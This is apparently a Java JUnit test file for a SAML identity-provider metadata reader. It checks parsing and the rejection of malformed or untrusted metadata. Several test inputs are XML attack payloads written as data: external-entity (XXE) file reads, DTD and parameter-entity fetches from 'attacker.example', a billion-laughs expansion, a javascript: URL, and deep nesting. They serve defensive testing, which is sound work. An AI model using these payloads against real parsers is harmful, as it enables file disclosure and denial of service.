package bulla.identity.saml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import bulla.commonops.problem.Problem;
import bulla.identity.problem.IdentityProblem;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class MetadataReaderTest {
  private static final MetadataReader READER =
      new MetadataReader(Clock.fixed(Instant.parse("2026-01-01T00:00:00Z"), ZoneOffset.UTC));

  @Test
  void everythingThatALoginWouldNeedIsRead() {
    Metadata metadata = read(SampleMetadata.XML);
    assertThat(metadata.entityId()).isEqualTo("https://idp.example/metadata");
    assertThat(metadata.signOn())
        .isEqualTo(new Metadata.Endpoint(Metadata.Binding.POST, "https://idp.example/post"));
    assertThat(metadata.logout())
        .contains(new Metadata.Endpoint(Metadata.Binding.REDIRECT, "https://idp.example/logout"));
    assertThat(metadata.signingCertificates())
        .as("not that for encryption")
        .containsExactly(SampleMetadata.CERTIFICATE);
    assertThat(metadata.nameIdFormats())
        .containsExactly(
            "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress", NameIdFormat.PERSISTENT);
  }

  @Test
  void anEntityInAListIsReadWhereItIsTheOnlyProvider() {
    String entity = SampleMetadata.XML.substring(SampleMetadata.XML.indexOf("<md:"));
    assertThat(read(list(entity)).entityId()).isEqualTo("https://idp.example/metadata");
    refused(list(entity + entity), "describes 2");
    refused(list(""), "describes 0");
  }

  @Test
  void aKeyWithoutAUseIsForSigningToo() {
    assertThat(read(SampleMetadata.XML.replace("use=\"encryption\"", "")).signingCertificates())
        .containsExactly(SampleMetadata.CERTIFICATE, SampleMetadata.OTHER_CERTIFICATE);
  }

  @Test
  void metadataThatHasExpiredIsRefused() {
    String until = "<md:EntityDescriptor validUntil=\"%s\"";
    assertThat(
            read(
                SampleMetadata.XML.replace(
                    "<md:EntityDescriptor", until.formatted("2026-01-01T00:00:01Z"))))
        .isNotNull();
    refused(
        SampleMetadata.XML.replace(
            "<md:EntityDescriptor", until.formatted("2026-01-01T01:00:00+01:00")),
        "valid until 2026-01-01");
    refused(
        SampleMetadata.XML.replace("<md:EntityDescriptor", until.formatted("tomorrow")),
        "not a time");
  }

  static Stream<Arguments> bad() {
    return Stream.of(
        Arguments.of("https://idp.example/post\"", "http://idp.example/post\"", "not an https URL"),
        Arguments.of("https://idp.example/post\"", "javascript:alert(1)\"", "not an https URL"),
        Arguments.of("https://idp.example/post\"", "https://u@idp.example/\"", "not an https URL"),
        Arguments.of("https://idp.example/logout\"", "/logout\"", "not an https URL"),
        Arguments.of("https://idp.example/logout\"", "https://a b/\"", "not a URL"),
        Arguments.of("entityID=\"https://idp.example/metadata\"", "", "entityID"),
        Arguments.of("idp.example/metadata", "idp.example/ metadata", "entityID"),
        Arguments.of("SingleSignOnService", "SingleSignOffService", "no SingleSignOnService"),
        Arguments.of("IDPSSODescriptor", "IDPDescriptor", "describes 0"),
        Arguments.of("SAML:2.0:protocol", "SAML:1.1:protocol", "describes 0"),
        Arguments.of("SAML:2.0:metadata", "SAML:2.1:metadata", "describes 0"),
        Arguments.of(SampleMetadata.CERTIFICATE, "AAAA", "not a certificate"),
        Arguments.of(SampleMetadata.CERTIFICATE, "!", "not a certificate"),
        Arguments.of("</md:EntityDescriptor>", "", "well-formed"));
  }

  @ParameterizedTest
  @MethodSource("bad")
  void whatCannotBeTrustedOrUsedIsRefused(String part, String replaced, String message) {
    assertThat(SampleMetadata.XML).contains(part);
    refused(SampleMetadata.XML.replace(part, replaced), message);
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "x", "<a/>", "{}", "<a", "<a>&b;</a>", "<a:b/>", "\u0000"})
  void whatIsNoMetadataIsRefused(String text) {
    assertThatThrownBy(() -> read(text)).isInstanceOf(Problem.class);
  }

  @Test
  void anExternalEntityIsNotRead(@TempDir Path directory) throws Exception {
    Path secret = Files.writeString(directory.resolve("secret"), "https://stolen.example/");
    String prolog = "<!DOCTYPE md [<!ENTITY x SYSTEM \"" + secret.toUri() + "\">]>";
    assertThatThrownBy(
            () ->
                read(
                    SampleMetadata.XML
                        .replace("?>\n", "?>" + prolog)
                        .replace("<!-- generated -->", "&x;")))
        .isInstanceOfSatisfying(
            Problem.class,
            problem -> {
              assertThat(problem.type()).isEqualTo(IdentityProblem.METADATA_REFUSED);
              assertThat(problem.detail())
                  .contains("document type declaration")
                  .doesNotContain("stolen");
            });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!DOCTYPE a>",
        "<!DOCTYPE a SYSTEM \"https://attacker.example/a.dtd\">",
        "<!DOCTYPE a [<!ENTITY % p SYSTEM \"https://attacker.example/p\"> %p;]>",
        "<!DOCTYPE a [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c"
            + " \"&b;&b;&b;&b;\">]>"
      })
  void everyDocumentTypeDeclarationIsRefused(String declaration) {
    refused(SampleMetadata.XML.replace("?>\n", "?>" + declaration), "document type declaration");
  }

  @Test
  void deepNestingAndManyAttributesAreRefused() {
    refused("<a>".repeat(10_000) + "</a>".repeat(10_000), "nests too deeply");
    var attributes = new StringBuilder();
    for (int i = 0; i < 200; i++) {
      attributes.append(" a").append(i).append("=\"\"");
    }
    refused("<a" + attributes + "/>", "well-formed");
  }

  private static String list(String entities) {
    return "<md:EntitiesDescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:metadata\">"
        + entities
        + "</md:EntitiesDescriptor>";
  }

  private static Metadata read(String xml) {
    return READER.read(SampleMetadata.source(xml), "metadataFileContent");
  }

  private static void refused(String xml, String message) {
    assertThatThrownBy(() -> read(xml))
        .isInstanceOfSatisfying(
            Problem.class,
            problem -> {
              assertThat(problem.type()).isEqualTo(IdentityProblem.METADATA_REFUSED);
              assertThat(problem.detail()).contains(message);
              assertThat(problem.member()).contains("metadataFileContent");
            });
  }
}
